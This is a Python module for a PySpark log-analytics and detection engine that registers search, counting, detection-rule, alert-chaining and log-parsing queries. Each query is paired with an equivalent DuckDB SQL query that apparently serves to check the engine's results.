"""The registered queries of the engine, each with SQL that DuckDB runs over the same tables."""

from __future__ import annotations

from collections.abc import Callable
from datetime import UTC, datetime, timedelta

from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

from .functions import codes, net, text
from .operators import aggregate as a
from .operators import alerts as al
from .operators import digest, extract, ingest, parsers, search, stateful
from .plans import rules as rl
from .plans import suppress as sp
from .sources import sinks
from .sources.events import EVENTS_SQL, load_events
from .timeutil import Window, hour_range

Query = Callable[[SparkSession, str], DataFrame]
QUERIES: dict[str, Query] = {}
ORACLES: dict[str, str] = {}

WINDOW = Window(datetime(2024, 1, 16, tzinfo=UTC), datetime(2024, 1, 23, tzinfo=UTC))
IN_WINDOW = "event_sec >= TIMESTAMP '2024-01-16' AND event_sec < TIMESTAMP '2024-01-23'"
IN_BASELINE = "event_sec >= TIMESTAMP '2024-01-09' AND event_sec < TIMESTAMP '2024-01-16'"


def at() -> Column:
    return F.col("event_sec")


def register(name: str, sql: str | None = None) -> Callable[[Query], Query]:
    def put(f: Query) -> Query:
        QUERIES[name] = f
        if sql:
            ORACLES[name] = sql if sql.lstrip().upper().startswith("WITH") else f"WITH {EVENTS_SQL}\n{sql}"
        return f

    return put


def show(time: Column) -> Column:
    return F.date_format(time, "yyyy-MM-dd HH:mm:ss")


SHOWN = "%Y-%m-%d %H:%M:%S"


def seconds(time: Column) -> Column:
    return F.timestamp_diff("SECOND", F.lit("1970-01-01 00:00:00").cast("timestamp_ntz"), time).cast("long")


# ---- the query language -------------------------------------------------------------------------------------------

ROW = "CAST(event_id AS VARCHAR) AS event_id, _source_type, severity"


def dsl(name: str, query: str, sql_where: str | None = None, sql: str | None = None, **how) -> None:
    def run(spark: SparkSession, sf_dir: str) -> DataFrame:
        return search.run(load_events(spark, sf_dir), query, order=("event_sec", "event_id"), **how)

    register(name, sql or f"SELECT {ROW} FROM ev WHERE {sql_where}")(run)


FIELDS = "SELECT event_id,_source_type,severity WHERE "
dsl("dsl_eq", FIELDS + "severity == critical", "severity = 'critical'")
dsl("dsl_ne", FIELDS + "severity != 'critical'", "severity <> 'critical'")
dsl("dsl_and_or_not", FIELDS + "NOT severity == critical AND _source_type == sshd OR username == user3", "(NOT severity = 'critical' AND _source_type = 'sshd') OR username = 'user3'")
dsl("dsl_paren_precedence", FIELDS + "_source_type == sshd AND (severity == warning OR severity == critical)", "_source_type = 'sshd' AND (severity = 'warning' OR severity = 'critical')")
dsl("dsl_ne_missing_index", FIELDS + "username != user1", "username <> 'user1'")
dsl("dsl_startswith", FIELDS + "startswith(username, 'USER1')", "username ILIKE 'USER1%'")
dsl("dsl_endswith", FIELDS + "endswith(_source_type, D)", "_source_type ILIKE '%D'")
dsl("dsl_contains_ci", FIELDS + "contains(_source_type, 'SYS')", "_source_type ILIKE '%SYS%'")
dsl("dsl_like_wildcard", FIELDS + "contains(username, 'r_2')", "username ILIKE '%r_2%'")
dsl("dsl_any", FIELDS + "any(username)", "username <> ''")
OCTETS = "CAST(split_part(src_ip, '.', 1) AS BIGINT) * 16777216 + CAST(split_part(src_ip, '.', 2) AS BIGINT) * 65536 + CAST(split_part(src_ip, '.', 3) AS BIGINT) * 256 + CAST(split_part(src_ip, '.', 4) AS BIGINT)"
dsl("dsl_cidr", FIELDS + "cidr_match(src_ip, '10.1.4.0/22')", f"({OCTETS}) BETWEEN 167838720 AND 167839743")
dsl("dsl_cidr_zero", FIELDS + "cidr_match(src_ip, '0.0.0.0/0') AND NOT cidr_match(username, '0.0.0.0/0')", "true")
dsl("dsl_raw_contains", FIELDS + "raw_contains('\"k\": 7')", "contains(line, '\"k\": 7')")
dsl("dsl_select", "SELECT src_ip,dst_port WHERE action == ALLOW", sql="SELECT src_ip, dst_port FROM ev WHERE action = 'ALLOW'")
dsl("dsl_select_missing_null", "SELECT event_id,nothing WHERE action == ALLOW", sql="SELECT CAST(event_id AS VARCHAR) AS event_id, CAST(NULL AS VARCHAR) AS nothing FROM ev WHERE action = 'ALLOW'")
dsl("dsl_group1", "GROUP BY _source_type", sql="SELECT _source_type, count(*) AS count FROM ev GROUP BY 1")
dsl("dsl_group2", "GROUP BY _source_type,severity", sql="SELECT _source_type, severity, count(*) AS count FROM ev GROUP BY 1, 2")
dsl("dsl_filter_group", "severity == critical GROUP BY username", sql="SELECT username, count(*) AS count FROM ev WHERE severity = 'critical' GROUP BY 1")
dsl("dsl_group_limit", "GROUP BY src_ip LIMIT 25", sql="SELECT src_ip, count(*) AS count FROM ev GROUP BY 1 ORDER BY 2 DESC, 1 LIMIT 25")
dsl("dsl_group_select", "SELECT count,username,severity GROUP BY username", sql="SELECT count(*) AS count, username, CAST(NULL AS VARCHAR) AS severity FROM ev GROUP BY username")
dsl("dsl_row_limit_ordered", FIELDS + "severity == warning LIMIT 40", sql=f"SELECT {ROW} FROM ev WHERE severity = 'warning' ORDER BY event_sec, ev.event_id LIMIT 40")
dsl("dsl_default_cap", FIELDS + "severity == warning", sql=f"SELECT {ROW} FROM ev WHERE severity = 'warning' ORDER BY event_sec, ev.event_id LIMIT 150", cap=search.DEFAULT_CAP)


def event_records(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Events as alerts have them: in a map, in which a missing user is absent."""
    e = load_events(spark, sf_dir)
    event = F.map_filter(F.create_map(*[x for n in ("_source_type", "src_ip", "event_type", "severity", "username") for x in (F.lit(n), F.nullif(F.col(n), F.lit("")))]), lambda _, v: v.isNotNull())
    return e.select(F.lit("ruled").alias("type"), e["event_id"].cast("string").alias("rule_id"), F.lit("low").alias("level"), event.alias("event"), seconds(F.col("ts")).alias("timestamp"))


def json_dsl(name: str, query: str, sql_where: str) -> None:
    register(name, f"SELECT CAST(event_id AS VARCHAR) AS rule_id, nullif(username, '') AS username FROM ev WHERE {sql_where}")(lambda spark, sf_dir: search.run(event_records(spark, sf_dir), f"SELECT rule_id,username WHERE {query}", mode="json"))


json_dsl("dsl_ne_missing_json", "username != user1", "username <> '' AND username <> 'user1'")
json_dsl("dsl_not_missing_json", "NOT username == user1", "username <> 'user1'")
json_dsl("dsl_json_literal_wildcard", "contains(username, 'r_2') OR contains(_source_type, 'SSH')", "_source_type = 'sshd'")
register("alerts_group_json", "SELECT username, count(*) AS count FROM ev WHERE severity <> 'informational' GROUP BY 1")(lambda spark, sf_dir: search.run(event_records(spark, sf_dir), "severity != informational GROUP BY username", mode="json"))


@register("hour_prune", "SELECT event_id, src_ip FROM ev WHERE ts >= TIMESTAMP '2024-01-10 05:00:00' AND ts < TIMESTAMP '2024-01-12 09:00:00'")
def hour_prune(spark: SparkSession, sf_dir: str) -> DataFrame:
    return search.bounded(load_events(spark, sf_dir), "2024-01-10T05:40", "2024-01-12T08:10").select("event_id", "src_ip")


@register("window_second_range", f"SELECT event_id, strftime(event_sec, '{SHOWN}') AS event_sec FROM ev WHERE event_sec >= TIMESTAMP '2024-01-10 05:40:07' AND event_sec < TIMESTAMP '2024-01-12 08:10:03'")
def window_second_range(spark: SparkSession, sf_dir: str) -> DataFrame:
    w = Window(datetime(2024, 1, 10, 5, 40, 7, tzinfo=UTC), datetime(2024, 1, 12, 8, 10, 3, tzinfo=UTC))
    return load_events(spark, sf_dir).filter(w.contains(at())).select("event_id", show(at()).alias("event_sec"))


@register("raw_scan_substring", "SELECT doc_id, n_chars FROM documents WHERE contains(text, 'the and')")
def raw_scan_substring(spark: SparkSession, sf_dir: str) -> DataFrame:
    return search.raw_scan(spark.read.parquet(f"{sf_dir}/documents.parquet"), "the and", "text").select("doc_id", "n_chars")


# ---- counting -----------------------------------------------------------------------------------------------------

FILLED = ("username", "action", "src_ip")


@register("field_coverage", " UNION ALL ".join(f"SELECT '{f}' AS field, count_if({f} <> '') AS filled, count(*) AS total, round(100 * count_if({f} <> '') / count(*), 4) AS pct FROM ev" for f in FILLED))
def field_coverage(spark: SparkSession, sf_dir: str) -> DataFrame:
    return a.coverage(load_events(spark, sf_dir), list(FILLED))


register("stats_by_source", "SELECT _source_type, count(*) AS count FROM ev GROUP BY 1")(lambda spark, sf_dir: a.group_count(load_events(spark, sf_dir), "_source_type"))
register("stats_by_type", "SELECT event_type, count(*) AS count FROM ev GROUP BY 1")(lambda spark, sf_dir: a.group_count(load_events(spark, sf_dir), "event_type"))
DAY = timedelta(days=1)
BUCKETS = ", ".join(f"count_if(event_sec >= TIMESTAMP '2024-01-16' + INTERVAL {i} DAY AND event_sec < TIMESTAMP '2024-01-16' + INTERVAL {i + 1} DAY) AS b{i}" for i in range(7))


@register("trend_pivot", f"SELECT _source_type, {BUCKETS}, count(*) AS total FROM ev WHERE {IN_WINDOW} GROUP BY 1")
def trend_pivot(spark: SparkSession, sf_dir: str) -> DataFrame:
    return a.trend(load_events(spark, sf_dir), "_source_type", at(), WINDOW, DAY)


@register("minute_counts", f"SELECT strftime(date_trunc('minute', event_sec), '{SHOWN}') AS minute, count(*) AS count FROM ev WHERE {IN_WINDOW} GROUP BY 1")
def minute_counts(spark: SparkSession, sf_dir: str) -> DataFrame:
    return load_events(spark, sf_dir).filter(WINDOW.contains(at())).groupBy(show(F.date_trunc("minute", at())).alias("minute")).agg(F.count(F.lit(1)).alias("count"))


@register(
    "interval_series",
    f""", own AS (SELECT CAST(floor((epoch(event_sec) - epoch(TIMESTAMP '2024-01-16')) / 1200) AS BIGINT) AS bucket, count(*) AS n FROM ev WHERE _source_type = 'filterlog' AND action = 'BLOCK' AND {IN_WINDOW} GROUP BY 1)
SELECT CAST(i AS BIGINT) AS bucket, coalesce(n, 0) AS count FROM range(504) r(i) LEFT JOIN own ON bucket = i""",
)
def interval_series(spark: SparkSession, sf_dir: str) -> DataFrame:
    return a.series(digest.blocked(load_events(spark, sf_dir), WINDOW), at(), WINDOW, timedelta(minutes=20))


VOLUME = """, v AS (SELECT {key} AS key, count_if({w}) AS c, count_if({b}) AS b FROM ev WHERE ({w}) OR ({b}) GROUP BY 1), f AS (SELECT *, (c - b) / b * 100.0 AS pct FROM v WHERE key <> '')
SELECT key AS {key}, c AS count, b AS baseline, CASE WHEN b > 0 THEN round(pct, 4) END AS delta_pct,
  CASE WHEN b = 0 THEN CASE WHEN c > 0 THEN 'new' END WHEN c = 0 THEN 'drop' WHEN b < 5 AND c < 5 THEN NULL WHEN pct > {spike} THEN 'spike' WHEN pct < -{spike} THEN 'drop' END AS flag FROM f"""


@register("volume_flags", VOLUME.format(key="src_ip", w=IN_WINDOW, b=IN_BASELINE, spike=20))
def volume_flags(spark: SparkSession, sf_dir: str) -> DataFrame:
    return a.volume(load_events(spark, sf_dir), "src_ip", at(), WINDOW, spike=20.0)


def keys_only(name: str, one: str, other: str, f: Query) -> None:
    register(name, f"SELECT DISTINCT username FROM ev WHERE username <> '' AND {one} EXCEPT SELECT username FROM ev WHERE {other}")(f)


NARROW = Window(datetime(2024, 1, 20, tzinfo=UTC), datetime(2024, 1, 20, 12, tzinfo=UTC))
NARROW_SQL = "event_sec >= TIMESTAMP '2024-01-20' AND event_sec < TIMESTAMP '2024-01-20 12:00:00'"
NARROW_BASE = "event_sec >= TIMESTAMP '2024-01-19 12:00:00' AND event_sec < TIMESTAMP '2024-01-20'"
keys_only("gone_silent", NARROW_BASE, NARROW_SQL, lambda spark, sf_dir: a.only_in(load_events(spark, sf_dir), "username", at(), NARROW.baseline(), NARROW))
keys_only("new_sources", NARROW_SQL, NARROW_BASE, lambda spark, sf_dir: a.only_in(load_events(spark, sf_dir), "username", at(), NARROW, NARROW.baseline()))


@register(
    "new_destinations",
    f""", al AS (SELECT * FROM ev WHERE _source_type = 'filterlog' AND action = 'ALLOW')
SELECT dst_ip, dst_port, count(*) AS count, (SELECT strftime(min(x.event_sec), '{SHOWN}') FROM al x WHERE x.dst_ip = al.dst_ip AND {IN_WINDOW.replace("event_sec", "x.event_sec")}) AS first_seen
FROM al WHERE {IN_WINDOW} AND dst_ip NOT IN (SELECT dst_ip FROM al WHERE {IN_BASELINE}) GROUP BY 1, 2""",
)
def new_destinations(spark: SparkSession, sf_dir: str) -> DataFrame:
    return digest.new_destinations(load_events(spark, sf_dir), WINDOW).withColumn("first_seen", show(F.col("first_seen")))


@register("first_seen_last_seen", f"SELECT username, strftime(min(event_sec), '{SHOWN}') AS first_seen, strftime(max(event_sec), '{SHOWN}') AS last_seen, count(*) AS count FROM ev GROUP BY 1")
def first_seen_last_seen(spark: SparkSession, sf_dir: str) -> DataFrame:
    return a.seen(load_events(spark, sf_dir), "username", at()).withColumns({"first_seen": show(F.col("first_seen")), "last_seen": show(F.col("last_seen"))})


@register("first_time_rules", f"SELECT dst_port || '/' || user_id AS rule_id, count_if({IN_WINDOW}) AS count, min(event_sec) >= TIMESTAMP '2024-01-16' AS first_time FROM ev WHERE event_sec < TIMESTAMP '2024-01-23' GROUP BY 1 HAVING count_if({IN_WINDOW}) > 0")
def first_time_rules(spark: SparkSession, sf_dir: str) -> DataFrame:
    e = load_events(spark, sf_dir)
    alerts = e.select(F.concat("dst_port", F.lit("/"), F.col("user_id").cast("string")).alias("rule_id"), F.lit("t").alias("rule_title"), F.lit("low").alias("level"), seconds(at()).alias("timestamp"))
    return digest.alert_summary(alerts, WINDOW).select("rule_id", "count", "first_time")


register("top_blocked", f"SELECT src_ip, count(*) AS count FROM ev WHERE _source_type = 'filterlog' AND action = 'BLOCK' AND {IN_WINDOW} GROUP BY 1 ORDER BY 2 DESC, 1 LIMIT 20")(lambda spark, sf_dir: a.top(digest.blocked(load_events(spark, sf_dir), WINDOW), ["src_ip"], 20))
register("inbound_allowed", f"SELECT src_ip, dst_ip, dst_port, count(*) AS count FROM ev WHERE _source_type = 'filterlog' AND action = 'ALLOW' AND {IN_WINDOW} GROUP BY 1, 2, 3")(lambda spark, sf_dir: digest.inbound(load_events(spark, sf_dir), WINDOW))


@register(
    "auth_failures_nested",
    f""", g AS (SELECT src_ip, _source_type || '/' || event_type || ':' || count(*) AS item, count(*) AS n FROM ev WHERE {IN_WINDOW} AND event_type IN ('error', 'signup') GROUP BY src_ip, _source_type, event_type)
SELECT src_ip, CAST(sum(n) AS BIGINT) AS total, string_agg(item, ';' ORDER BY item) AS parts FROM g GROUP BY 1""",
)
def auth_failures_nested(spark: SparkSession, sf_dir: str) -> DataFrame:
    return digest.auth_failures(load_events(spark, sf_dir), WINDOW, ("error", "signup"))


@register(
    "gap_clusters",
    """, x AS (SELECT event_id, CAST(floor(epoch(ts)) AS BIGINT) AS t FROM ev WHERE _source_type = 'systemd'), y AS (SELECT *, CASE WHEN t - lag(t) OVER (ORDER BY t, event_id) > 300 THEN 1 ELSE 0 END AS brk FROM x),
z AS (SELECT *, sum(brk) OVER (ORDER BY t, event_id) AS cl FROM y)
SELECT count(*) AS count, min(t) AS first, max(t) AS last, string_agg(CAST(event_id AS VARCHAR), ',' ORDER BY event_id) AS members FROM z GROUP BY cl HAVING count(*) >= 3""",
)
def gap_clusters(spark: SparkSession, sf_dir: str) -> DataFrame:
    own = load_events(spark, sf_dir).filter("_source_type = 'systemd'").select("event_id", seconds(F.col("ts")).alias("t"))
    found = a.gap_clusters(own, "event_id", "t", 300, 3)
    return found.select("count", "first", "last", F.array_join(F.transform("names", lambda x: x.cast("string")), ",").alias("members"))


@register("concentration", ", g AS (SELECT event_type, count(*) AS count FROM ev GROUP BY 1) SELECT event_type, count, (SELECT CAST(sum(count) AS BIGINT) FROM g) AS total, round(100 * count / (SELECT sum(count) FROM g), 4) AS pct FROM g ORDER BY count DESC, event_type DESC LIMIT 1")
def concentration(spark: SparkSession, sf_dir: str) -> DataFrame:
    return a.concentration(load_events(spark, sf_dir), "event_type", 0.1)


@register("unparsed_high_volume", f"SELECT 'app' || (user_id % 7) AS app_name, count(*) AS count FROM ev WHERE {IN_WINDOW} AND event_id % 6 = 0 GROUP BY 1 HAVING count(*) > 20")
def unparsed_high_volume(spark: SparkSession, sf_dir: str) -> DataFrame:
    e = load_events(spark, sf_dir).withColumns({"app_name": F.concat(F.lit("app"), (F.col("user_id") % 7).cast("string")), "_normalized": F.col("event_id") % 6 != 0})
    return digest.unparsed(e, WINDOW, 20)


HELD = "event_id % 97 <> 0"


@register("completeness", f"SELECT strftime(dt, '%Y-%m-%d') AS dt, hh, count(*) AS raw, count_if({HELD}) AS indexed FROM ev GROUP BY 1, 2 HAVING count_if({HELD}) < count(*)")
def completeness(spark: SparkSession, sf_dir: str) -> DataFrame:
    e = load_events(spark, sf_dir)
    return digest.completeness(e, e.filter(HELD)).withColumn("dt", F.date_format("dt", "yyyy-MM-dd"))


@register("index_lag", "SELECT CAST(epoch(max(event_sec)) - epoch(max(event_sec) FILTER (WHERE event_id % 50 = 0)) AS BIGINT) AS lag_s FROM ev")
def index_lag(spark: SparkSession, sf_dir: str) -> DataFrame:
    e = load_events(spark, sf_dir)
    return digest.index_lag(e, e.filter("event_id % 50 = 0"))


@register("cold_start", f"SELECT strftime(min(event_sec), '{SHOWN}') AS earliest, epoch(TIMESTAMP '2024-01-16') - epoch(greatest(min(event_sec), TIMESTAMP '2024-01-09')) < 302400 AS cold FROM ev")
def cold_start(spark: SparkSession, sf_dir: str) -> DataFrame:
    return digest.cold_start(load_events(spark, sf_dir), WINDOW).withColumn("earliest", show(F.col("earliest")))


@register("normalization_rate", "SELECT round(avg(CASE WHEN event_id % 6 <> 0 THEN 1.0 ELSE 0.0 END), 4) AS rate FROM ev")
def normalization_rate(spark: SparkSession, sf_dir: str) -> DataFrame:
    return load_events(spark, sf_dir).agg(F.round(F.avg((F.col("event_id") % 6 != 0).cast("double")), 4).alias("rate"))


# ---- detection ----------------------------------------------------------------------------------------------------


def _rule(id: str, detection: dict, **logsource: str) -> rl.Rule:
    return rl.load_rule({"id": id, "title": id, "level": "low", "logsource": logsource, "detection": detection})


def matched(name: str, rules: list[rl.Rule], wheres: dict[str, str]) -> None:
    sql = " UNION ALL ".join(f"SELECT event_id, '{k}' AS rule_id FROM ev WHERE {w}" for k, w in wheres.items())

    def run(spark: SparkSession, sf_dir: str) -> DataFrame:
        e = load_events(spark, sf_dir)
        return rl.match_rules(e, rules, search.event_field(e), e["line"]).select("event_id", "rule_id")

    register(name, sql)(run)


matched(
    "rules_fanout",
    [_rule("r1", {"s": {"event_type": "error", "severity": "critical"}, "condition": "s"}), _rule("r2", {"s": {"event_type": "error"}, "inside": {"src_ip|startswith": "10.0."}, "condition": "s and not inside"}), _rule("r3", {"a": {"dst_port": 22}, "b": {"username|endswith": "1"}, "condition": "(a or b) and not (a and b)"})],
    {"r1": "event_type = 'error' AND severity = 'critical'", "r2": "event_type = 'error' AND src_ip NOT LIKE '10.0.%'", "r3": "(dst_port = '22') <> (username LIKE '%1')"},
)
matched("rule_keywords", [_rule("k", {"s": {"_source_type": "sshd"}, "keywords": ["\"K\": 4", "\"k\": 11"], "condition": "s and keywords"})], {"k": "_source_type = 'sshd' AND (contains(lower(line), '\"k\": 4') OR contains(lower(line), '\"k\": 11'))"})
matched("rule_one_of_glob", [_rule("g", {"job": {"_source_type": "cron"}, "s_a": {"username|contains": "R1"}, "s_b": {"dst_port": "443"}, "t_c": {"severity": "warning"}, "condition": "job and 1 of s_*"}), _rule("t", {"p": {"severity": "critical"}, "q": {"dst_port": "80"}, "condition": "1 of them"})], {"g": "_source_type = 'cron' AND (contains(lower(username), 'r1') OR dst_port = '443')", "t": "severity = 'critical' OR dst_port = '80'"})
matched("rule_logsource", [_rule("l", {"s": {"severity": "critical"}, "condition": "s"}, service="ssh", product="hd"), _rule("m", {"s": {"severity": "critical"}, "condition": "s"}, service="log")], {"l": "_source_type = 'sshd' AND severity = 'critical'", "m": "_source_type = 'filterlog' AND severity = 'critical'"})


@register("suppress_rules", "SELECT event_id, 'r' AS rule_id FROM ev WHERE event_type = 'purchase' AND NOT ((username <> '' AND username <> 'user2' AND dst_port = '22') OR " + f"(({OCTETS}) BETWEEN 167772160 AND 167837695))")
def suppress_rules(spark: SparkSession, sf_dir: str) -> DataFrame:
    e = load_events(spark, sf_dir).withColumn("username", F.nullif("username", F.lit("")))
    blocks = [{"rule_id": "r", "condition": "username != 'user2' AND dst_port == '22'"}, {"rule_id": "r", "condition": "cidr_match(src_ip, '10.0.0.0/16')", "expires": "2020-01-01"}, {"rule_id": "x", "condition": "dst_port == '80'"}]
    of = sp.suppressed([s for b in blocks if (s := sp.parse_suppression(b))], search.event_field(e))
    return rl.match_rules(e, [_rule("r", {"s": {"event_type": "purchase"}, "condition": "s"})], search.event_field(e), e["line"], of).select("event_id", "rule_id")


def typed_alerts(spark: SparkSession, sf_dir: str) -> DataFrame:
    return load_events(spark, sf_dir).select(F.col("event_type").alias("rule_id"), F.col("user_id").cast("string").alias("username"), F.col("src_ip"), seconds(F.col("ts")).alias("timestamp"), F.col("event_id").alias("tie"))


@register(
    "dedup_alerts",
    """WITH RECURSIVE x AS (SELECT event_id, user_id, event_type, CAST(floor(epoch(ts)) AS BIGINT) AS t, row_number() OVER (PARTITION BY user_id, event_type ORDER BY CAST(floor(epoch(ts)) AS BIGINT), event_id) AS rn FROM events),
f AS (SELECT event_id, user_id, event_type, t, rn, t AS last, true AS keep FROM x WHERE rn = 1 UNION ALL
  SELECT x.event_id, x.user_id, x.event_type, x.t, x.rn, CASE WHEN x.t - f.last >= 21600 THEN x.t ELSE f.last END, x.t - f.last >= 21600 FROM f JOIN x ON x.user_id = f.user_id AND x.event_type = f.event_type AND x.rn = f.rn + 1)
SELECT event_id, t AS timestamp FROM f WHERE keep""",
)
def dedup_alerts(spark: SparkSession, sf_dir: str) -> DataFrame:
    return stateful.dedup(typed_alerts(spark, sf_dir), ["username", "rule_id"], "timestamp", "tie", 21600).select(F.col("tie").alias("event_id"), "timestamp")


def chain(name: str, rule: stateful.ChainRule, sql: str) -> None:
    register(name, sql)(lambda spark, sf_dir: stateful.chains(typed_alerts(spark, sf_dir), [rule]).select("join_value", "chain_start", "chain_end", F.array_join(F.transform("step_counts", lambda n: n.cast("string")), ",").alias("counts")))


def chain_sql(types: str, window: int, first: str, advance: str, done: str, counts: str) -> str:
    """A fold by recursion. State: start and two numbers a and b. first: both after one alert of type k from nothing,
    advance: the same from (a0, b0)."""
    fresh, later = first, advance
    return f"""WITH RECURSIVE x AS (SELECT user_id, event_type AS k, CAST(floor(epoch(ts)) AS BIGINT) AS t, row_number() OVER (PARTITION BY user_id ORDER BY CAST(floor(epoch(ts)) AS BIGINT), event_id) AS rn FROM events WHERE event_type IN ({types})),
f AS (SELECT user_id, rn, t, t AS start, {fresh}, false AS open FROM x WHERE rn = 1 UNION ALL
  SELECT user_id, rn, t, CASE WHEN again THEN t ELSE start END, {later}, again FROM (SELECT x.*, f.start, f.a AS a0, f.b AS b0, ({done.replace("a", "f.a").replace("b", "f.b")}) OR x.t - f.start > {window} AS again FROM f JOIN x ON x.user_id = f.user_id AND x.rn = f.rn + 1))
SELECT CAST(user_id AS VARCHAR) AS join_value, start AS chain_start, t AS chain_end, {counts} AS counts FROM f WHERE {done}"""


chain("chain_threshold", stateful.ChainRule("c", "c", "username", (("error", 3),), 86400, False), chain_sql("'error'", 86400, "1 AS a, 0 AS b", "CASE WHEN again THEN 1 ELSE a0 + 1 END, 0", "a >= 3", "CAST(a AS VARCHAR)"))
chain(
    "chain_unordered",
    stateful.ChainRule("c", "c", "username", (("error", 1), ("signup", 1)), 86400, False),
    chain_sql("'error', 'signup'", 86400, "CASE WHEN k = 'error' THEN 1 ELSE 0 END AS a, CASE WHEN k = 'signup' THEN 1 ELSE 0 END AS b", "CASE WHEN k = 'error' THEN 1 WHEN again THEN 0 ELSE a0 END, CASE WHEN k = 'signup' THEN 1 WHEN again THEN 0 ELSE b0 END", "a >= 1 AND b >= 1", "a || ',' || b"),
)
chain(
    "chain_ordered",
    stateful.ChainRule("c", "c", "username", (("error", 2), ("purchase", 1)), 172800, True),
    chain_sql(
        "'error', 'purchase'", 172800, "CASE WHEN k = 'error' THEN 1 ELSE 0 END AS a, 0 AS b",
        "CASE WHEN again THEN CASE WHEN k = 'error' THEN 1 ELSE 0 END WHEN k = 'error' AND a0 < 2 THEN a0 + 1 ELSE a0 END, CASE WHEN NOT again AND k = 'purchase' AND a0 >= 2 THEN 1 ELSE 0 END", "a >= 2 AND b >= 1", "a || ',' || b",
    ),
)


@register("ack_filter", f", m AS (SELECT event_type, max(CAST(floor(epoch(ts)) AS BIGINT)) AS acked FROM ev WHERE event_id % 40 = 0 AND event_type <> 'view' AND {IN_BASELINE} GROUP BY 1) SELECT event_id FROM ev LEFT JOIN m USING (event_type) WHERE acked IS NULL OR CAST(floor(epoch(ts)) AS BIGINT) > acked")
def ack_filter(spark: SparkSession, sf_dir: str) -> DataFrame:
    acks = load_events(spark, sf_dir).filter(WINDOW.baseline().contains(at()) & (F.col("event_id") % 40 == 0) & (F.col("event_type") != "view")).select(F.col("event_type").alias("rule_id"), seconds(F.col("ts")).alias("timestamp"))
    return al.open_alerts(typed_alerts(spark, sf_dir), acks).select(F.col("tie").alias("event_id"))


@register("alerts_union", "SELECT 'ruled' AS type, event_type AS rule_id, CAST(NULL AS VARCHAR) AS correlation_id, CAST(floor(epoch(ts)) AS BIGINT) AS timestamp FROM ev WHERE event_type = 'error' UNION ALL SELECT 'correlated', NULL, 'c' || user_id, CAST(NULL AS BIGINT) FROM ev WHERE event_type = 'signup'")
def alerts_union(spark: SparkSession, sf_dir: str) -> DataFrame:
    ruled = typed_alerts(spark, sf_dir).filter("rule_id = 'error'").select("rule_id", "timestamp")
    correlated = typed_alerts(spark, sf_dir).filter("rule_id = 'signup'").select(F.concat(F.lit("c"), "username").alias("correlation_id"))
    return al.union(ruled, correlated).select("type", "rule_id", "correlation_id", "timestamp")


@register("notify_levels", "SELECT event_id, CASE event_id % 6 WHEN 0 THEN 'high' WHEN 4 THEN 'high' ELSE 'critical' END AS priority FROM ev WHERE event_id % 6 IN (0, 3, 4)")
def notify_levels(spark: SparkSession, sf_dir: str) -> DataFrame:
    level = codes.choose(F.col("event_id") % 6, {1: "low", 2: "medium", 3: "critical", 4: "high", 5: "info"})
    e = load_events(spark, sf_dir).select("event_id", F.when(F.col("event_id") % 6 == 0, "correlated").otherwise("ruled").alias("type"), level.alias("level"))
    return al.notifiable(e).select("event_id", "priority")


# ---- parsing ------------------------------------------------------------------------------------------------------


def lines_of(make: Callable[[DataFrame], Column]) -> Callable[[SparkSession, str], DataFrame]:
    def lines(spark: SparkSession, sf_dir: str) -> DataFrame:
        e = load_events(spark, sf_dir)
        return e.select("event_id", make(e).alias("value"))

    return lines


def s(name: str) -> Column:
    return F.col(name).cast("string")


def cat(*parts: str | Column) -> Column:
    return F.concat(*[F.lit(p) if isinstance(p, str) else p for p in parts])


def parsed(name: str, make: Callable[[DataFrame], Column], pick: Callable[[], list[Column]], sql: str) -> None:
    def run(spark: SparkSession, sf_dir: str) -> DataFrame:
        df = parsers.parse(lines_of(make)(spark, sf_dir))
        return df.select("event_id", *pick())

    register(name, sql)(run)


def part(name: str, alias: str | None = None) -> Column:
    return F.col(f"parsed.{name}").alias(alias or name)


def f_(name: str, alias: str | None = None) -> Column:
    return F.get(F.array(F.col("parsed.fields")[name]), F.lit(0)).alias(alias or name)


parsed("parse_json_flat", lambda e: cat('{"event":{"id":', s("event_id"), ',"kind":"', F.col("event_type"), '"},"props":', F.get_json_object("line", "$.props"), ',"host":"h', (F.col("user_id") % 5).cast("string"), '","tags":[1,2]}'), lambda: [part("format"), part("hostname"), f_("event.id", "id"), f_("event.kind", "kind"), f_("props.k", "k"), f_("tags")], "SELECT event_id, 'json' AS format, 'h' || (user_id % 5) AS hostname, CAST(event_id AS VARCHAR) AS id, event_type AS kind, json_extract_string(line, '$.props.k') AS k, '[1,2]' AS tags FROM ev")
parsed("parse_json_array", lambda e: cat('[{"id":', s("event_id"), '},"', F.col("event_type"), '"]'), lambda: [part("format"), part("message"), f_("0.id", "id"), f_("1", "second")], "SELECT event_id, 'json_array' AS format, '2 JSON array elements' AS message, CAST(event_id AS VARCHAR) AS id, event_type AS second FROM ev")
parsed("parse_logfmt", lambda e: cat("level=warn user=", F.col("username"), ' msg="it is ', s("event_id"), '" ip=', F.col("src_ip"), " done"), lambda: [part("format"), part("severity"), part("message"), f_("user"), f_("ip"), f_("done")], "SELECT event_id, 'logfmt' AS format, 'warning' AS severity, 'it is ' || event_id AS message, username AS \"user\", src_ip AS ip, 'true' AS done FROM ev")
parsed("parse_cef_header", lambda e: cat("CEF:0|acme|fire\\|wall|1.0|", s("event_id"), "|", F.col("event_type"), "|", (F.col("event_id") % 11).cast("string"), "|src=", F.col("src_ip"), " dst=", F.col("dst_ip"), " msg=seen a\\=b twice"), lambda: [part("format"), part("severity"), part("app_name"), part("msg_id"), part("message"), f_("src"), f_("dst"), f_("cef.name", "name")], "SELECT event_id, 'cef' AS format, CASE WHEN event_id % 11 <= 3 THEN 'debug' WHEN event_id % 11 <= 6 THEN 'notice' WHEN event_id % 11 <= 8 THEN 'warning' ELSE 'error' END AS severity, 'fire|wall' AS app_name, CAST(event_id AS VARCHAR) AS msg_id, 'seen a=b twice' AS message, src_ip AS src, dst_ip AS dst, event_type AS name FROM ev")
parsed("parse_leef", lambda e: cat("LEEF:2.0|acme|box|1|", F.col("event_type"), "|^|src=", F.col("src_ip"), "^sev=", (F.col("event_id") % 10).cast("string"), "^msg=two words"), lambda: [part("format"), part("severity"), part("app_name"), part("message"), f_("src")], "SELECT event_id, 'leef' AS format, CASE WHEN event_id % 10 <= 2 THEN 'debug' WHEN event_id % 10 <= 5 THEN 'notice' WHEN event_id % 10 <= 8 THEN 'warning' ELSE 'error' END AS severity, 'box' AS app_name, 'two words' AS message, src_ip AS src FROM ev")
